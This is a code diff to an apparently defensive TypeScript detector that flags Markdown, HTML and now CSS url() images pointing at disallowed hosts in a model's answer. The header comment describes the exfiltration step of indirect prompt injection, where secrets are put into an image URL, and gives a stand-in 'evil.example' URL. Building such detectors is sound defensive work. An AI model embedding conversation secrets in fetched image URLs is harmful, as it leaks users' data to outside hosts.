@@ -1,12 +1,14 @@
 /**
  * Images an answer asks its reader's client to fetch from a host outside the allowed ones: a Markdown image
  * (`![x](https://evil.example/p?q=…)`, or by reference, `![x][r]` with `[r]: https://…`), an HTML `<img
- * src>` or `srcset`, or another element a page fetches as it loads (FETCHED_BY). A host that renders the answer fetches it at once, no click needed, so a model led to put
+ * src>` or `srcset`, or another element a page fetches as it loads (FETCHED_BY), or a CSS `url()` in a
+ * `style` attribute or a `<style>` (css-fetches.ts). A host that renders the answer fetches it at once, no click needed, so a model led to put
  * the conversation's secrets into its URL sends them to that host: the exfiltration step of an indirect
  * prompt injection. Before 2026-12-06 such an image passed every action.
  * An image in Markdown's code (a fenced block, a code span: markdown-code.ts) is shown as written and
  * fetches nothing, as markup there hides nothing (hidden-markup.ts); before 2026-12-06 it was found.
  */
+import { cssFetches } from './css-fetches.js';
 import { decodeReferences } from './html-references.js';
 import { markdownCode, type CodeSpans } from './markdown-code.js';
 
@@ -39,6 +41,16 @@ const FETCHED_BY: Readonly<Record<string, RegExp>> = {
   embed: /^src$/,
   object: /^data$/,
 };
+/**
+ * Any opening tag, read as IMG reads it: group 1 its name, 2 its attributes. Looked for only in text that
+ * STYLING finds, for a `style` attribute (any element's) or a <style> element.
+ */
+const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)(?=[\s/>])((?:[^<>"'=]|=\s*(?:"[^"]*"|'[^']*'|(?![\s"']))|["'])*)>/g;
+const STYLING = /<style[\s/>]|[\s/"']style\s*=/i;
+/** A `style` attribute (not `data-style`): its value in 1–3, quoted or not. */
+const STYLE_ATTRIBUTE = /(?:^|[\s/"'])style\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'<>]+))/i;
+/** Where a <style>'s text ends (raw text: no other tag inside counts). */
+const STYLE_END = /<\/style[\s/>]/gi;
 /** A base the checks resolve against, of either scheme (a host page's may be http or https): its own host is no other. */
 const BASE_HOST = 'base.invalid';
 const BASES = [`https://${BASE_HOST}/`, `http://${BASE_HOST}/`];
@@ -98,7 +110,31 @@ function outsideImg(tag: string, attributes: string, allowed: readonly string[])
 
 /** Only text with one of these can hold an image. */
 export function mayHoldImage(s: string): boolean {
-  return s.includes('![') || FETCHING.test(s);
+  return s.includes('![') || FETCHING.test(s) || STYLING.test(s);
+}
+
+/**
+ * The spans of `s`'s styles that fetch from outside (cssFetches): a tag whose `style` attribute does, and a
+ * <style> element whose text does, with its text (unclosed, to the end of `s`: a browser reads all after it
+ * as its CSS, and with only its tag taken out what follows would be read again as HTML).
+ */
+function outsideStyles(s: string, allowed: readonly string[], shownAsCode: (at: number) => boolean, spans: Array<[number, number]>): void {
+  const outside = (url: string): boolean => outsideImage(url, allowed);
+  TAG.lastIndex = 0;
+  for (let m = TAG.exec(s); m !== null; m = TAG.exec(s)) {
+    const at = m.index;
+    if (m[1]!.length === 5 && m[1]!.toLowerCase() === 'style' && !shownAsCode(at)) {
+      const after = at + m[0].length;
+      STYLE_END.lastIndex = after;
+      const close = STYLE_END.exec(s);
+      const end = close === null ? s.length : s.indexOf('>', close.index) + 1 || s.length;
+      if (cssFetches(s.slice(after, close === null ? s.length : close.index), outside)) spans.push([at, end]);
+      TAG.lastIndex = end; // raw text: no tag inside it is one
+      continue;
+    }
+    const style = STYLE_ATTRIBUTE.exec(m[2]!);
+    if (style !== null && cssFetches(style[1] ?? style[2] ?? style[3]!, outside) && !shownAsCode(at)) spans.push([at, at + m[0].length]);
+  }
 }
 
 /**
@@ -112,6 +148,7 @@ export function outsideImages(s: string, allowed: readonly string[], html = fals
   const spans: Array<[number, number]> = [];
   for (const m of s.matchAll(INLINE)) if (outsideImage(m[1] ?? m[2] ?? '', allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
   for (const m of s.matchAll(IMG)) if (outsideImg(m[1]!, m[2]!, allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
+  if (STYLING.test(s)) outsideStyles(s, allowed, shownAsCode, spans);
   const labels = new Set<string>();
   for (const m of s.matchAll(REFERENCE)) if (!shownAsCode(m.index)) labels.add(label(m[2] || m[1]!));
   if (labels.size > 0) {
